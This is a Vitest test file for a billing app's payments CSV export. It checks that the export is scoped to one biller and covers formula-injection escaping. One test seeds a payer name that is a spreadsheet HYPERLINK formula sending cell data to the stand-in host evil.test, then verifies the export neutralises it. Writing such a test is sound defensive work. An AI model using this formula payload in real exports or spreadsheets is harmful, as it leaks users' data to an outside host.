import { describe, expect, it } from "vitest";
import { db } from "@/lib/db";
import { arrangeAttempt, arrangeConfiguredBiller, arrangeInvoices, postbackFields } from "@/test/payment-fixtures";
import { applyPostback } from "@/lib/payments/apply-postback";
import { exportPaymentsCsv } from "./export-payments-csv";

const kind = process.env.TEST_DB_KIND;

describe.skipIf(kind === "none")(`exportPaymentsCsv (${kind})`, () => {
  it("exports only this biller's attempts in the range, with dollars and the Invoice Cloud GUID", async () => {
    const biller = await arrangeConfiguredBiller(db);
    const other = await arrangeConfiguredBiller(db);
    const mine = await arrangeInvoices(db, biller.id, [6000, 125075]);
    const theirs = await arrangeInvoices(db, other.id, [999]);
    const attempt = await arrangeAttempt(db, { billerId: biller.id, applicantId: mine.applicant.id, invoices: mine.invoices });
    await arrangeAttempt(db, { billerId: other.id, applicantId: theirs.applicant.id, invoices: theirs.invoices });
    const pb = postbackFields(attempt);
    await applyPostback({ paymentId: attempt.id, ...pb });

    const { csv, rows } = await exportPaymentsCsv({
      billerId: biller.id,
      from: new Date(Date.now() - 3600_000),
      to: new Date(Date.now() + 3600_000),
    });
    expect(rows).toBe(1);
    const lines = csv.trim().split("\n");
    expect(lines[0]).toBe(
      "created,closed,status,total,paid,convenience_fee,invoice_numbers,account_number,applicant,email,invoice_cloud_payment_guid,payment_id,reason",
    );
    expect(lines[1]).toContain(",PAID,1310.75,1310.75,0.00,");
    expect(lines[1]).toContain(pb.raw.PaymentGUID!);
    expect(lines[1]).toContain(attempt.id);
    expect(csv).not.toContain(attempt.billerReference);

    const empty = await exportPaymentsCsv({
      billerId: biller.id,
      from: new Date(Date.now() + 3600_000),
      to: new Date(Date.now() + 7200_000),
    });
    expect(empty.rows).toBe(0);
  });

  it("keeps a payer named like a spreadsheet formula as text", async () => {
    const biller = await arrangeConfiguredBiller(db);
    const { applicant, invoices } = await arrangeInvoices(db, biller.id, [5000]);
    const hostile = '=HYPERLINK("http://evil.test/?d="&A1,"Click for refund")';
    await db.user.update({ where: { id: applicant.id }, data: { name: hostile } });
    await arrangeAttempt(db, { billerId: biller.id, applicantId: applicant.id, invoices });

    const { csv } = await exportPaymentsCsv({
      billerId: biller.id,
      from: new Date(Date.now() - 3600_000),
      to: new Date(Date.now() + 3600_000),
    });
    const row = csv.trim().split("\n")[1]!;
    // The cell starts with a quote mark, so a spreadsheet shows it as text; the name is still there.
    expect(row).toContain(`,"'=HYPERLINK(""http://evil.test/?d=""&A1,""Click for refund"")",`);
    expect(row).not.toMatch(/(^|,)"?=HYPERLINK/);
  });
});
